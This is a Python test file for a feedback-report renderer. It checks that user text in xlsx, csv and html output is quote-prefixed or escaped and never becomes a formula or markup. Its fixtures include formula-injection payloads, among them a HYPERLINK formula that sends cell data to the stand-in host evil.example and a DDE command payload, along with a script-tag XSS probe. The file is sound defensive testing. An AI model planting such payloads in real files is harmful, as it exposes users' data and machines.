"""User text in the report files is text: never a spreadsheet formula (xlsx, csv), never markup (html).

Reasons come from terminals, department and window names from the console's directory editor."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from apps.report.model import MonthlyReport, Notes, ScopeRow, UnclosedTicket, metric_defs
from apps.report.render_data import render_csv
from apps.report.render_html import render_html
from apps.report.render_xlsx import render_xlsx
from haocha.domain.metrics import Components

TZ = ZoneInfo("Asia/Shanghai")
AT = datetime(2021, 5, 20, 10, 0, tzinfo=TZ)
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


def report() -> MonthlyReport:
    c = Components(reviews=3, good=1, bad=2, score_sum=130)
    dept = ScopeRow.of("department", "D-X", HOSTILE[0], c)
    window = ScopeRow.of("window", "W-X", HOSTILE[1], c, department_id="D-X", hall_id="H-X")
    ticket = UnclosedTicket(
        ticket_id="TK-1", review_id="R-1", department_id="D-X", department_name=HOSTILE[3], hall_id="H-X",
        window_id="W-X", window_name="<script>alert(1)</script>", rating=1, real_name=False, reasons=HOSTILE[2:],
        happened_at=AT, received_at=AT, opened_at=AT, resolve_due=AT, stage="contact", stage_label="待回访",
        contacted=False, overdue=False, escalated=False, working_days_open=1.0)
    return MonthlyReport(
        title="好差评月报", month="2021-05", as_of=AT, timezone="Asia/Shanghai", period_start=AT, period_end=AT,
        metrics=metric_defs(), totals=ScopeRow.of("total", "ALL", "合计", c), departments=[dept], windows=[window],
        rankings=[], open_tickets=[ticket], carry_over=[],
        notes=Notes(late_reviews=0, invalidated=0, open_tickets=1, overdue_tickets=0, carry_over=0))


def test_xlsx_cells_from_user_text_are_text_never_formulas():
    wb = openpyxl.load_workbook(io.BytesIO(render_xlsx(report())))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell in the workbook"
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert HOSTILE[0] in texts and HOSTILE[1] in texts and HOSTILE[3] in texts
    # Even an edit in Excel (F2, Enter) keeps risky text as text: the quote prefix is set.
    risky = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r"]
    assert risky and all(c.quotePrefix for c in risky)
    # Numbers stay numbers.
    ws = wb["部门"]
    assert any(isinstance(c.value, int) for row in ws.iter_rows() for c in row)


def test_csv_text_cannot_start_a_formula():
    rows = list(csv.reader(io.StringIO(render_csv(report()).decode("utf-8-sig"))))
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert "'" + HOSTILE[0] in cells and "'" + HOSTILE[1] in cells


@pytest.mark.parametrize("needle", ["<script>", "alert(1)</script>"])
def test_html_escapes_user_text(needle):
    page = render_html(report(), []).decode("utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert needle not in page
